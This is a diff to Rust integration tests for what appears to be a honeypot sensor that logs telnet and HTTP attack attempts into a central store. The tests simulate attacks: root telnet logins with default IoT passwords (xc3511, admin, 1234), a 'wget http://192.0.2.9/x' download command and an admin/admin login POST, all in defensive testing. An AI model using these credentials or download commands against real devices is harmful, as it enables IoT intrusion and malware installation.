@@ -97,22 +97,6 @@ fn wait_until_subscribed(broker: &HpfeedsBroker, central: &Path) {
     panic!("the normalizer never stored a probe");
 }
 
-/// Logs in over telnet as root, runs `commands`, logs out.
-fn telnet_session(port: u16, password: &str, commands: &[&str]) {
-    let mut s = connect(port);
-    read_until(&mut s, b"login: ");
-    send(&mut s, b"root\r\n");
-    read_until(&mut s, b"Password: ");
-    send(&mut s, format!("{password}\r\n").as_bytes());
-    read_until(&mut s, b"# ");
-    for c in commands {
-        send(&mut s, format!("{c}\r\n").as_bytes());
-        read_until(&mut s, b"# ");
-    }
-    send(&mut s, b"exit\r\n");
-    read_to_close(&mut s);
-}
-
 fn http_request(port: u16, request: &str) {
     let mut s = connect(port);
     send(&mut s, request.as_bytes());
@@ -144,12 +128,13 @@ fn sensor_events_reach_the_central_store_row_by_row() {
         broker.port()
     );
     let sensor = SensorProcess::start(&bin(), &body);
-    telnet_session(
+    telnet_login(
         telnet_port,
+        "root",
         "xc3511",
         &["uname -a", "cat /proc/cpuinfo; wget http://192.0.2.9/x"],
     );
-    telnet_session(telnet_port, "admin", &[]);
+    telnet_login(telnet_port, "root", "admin", &[]);
     http_request(
         http_port,
         "POST /login.cgi HTTP/1.1\r\nHost: router\r\nContent-Length: 29\r\nConnection: close\r\n\r\nusername=admin&password=admin",
@@ -731,7 +716,7 @@ fn a_standalone_sensor_with_a_geoip_database_fills_ip_info() {
         plugin("t", "telnet", port, "telnet")
     );
     let sensor = SensorProcess::start(&bin(), &body);
-    telnet_session(port, "1234", &[]);
+    telnet_login(port, "root", "1234", &[]);
     let (status, dir) = sensor.terminate(TIMEOUT);
     assert!(status.success(), "{}", SensorProcess::log(dir.path()));
     let conn = db(&dir.path().join("sensor.sqlite"));
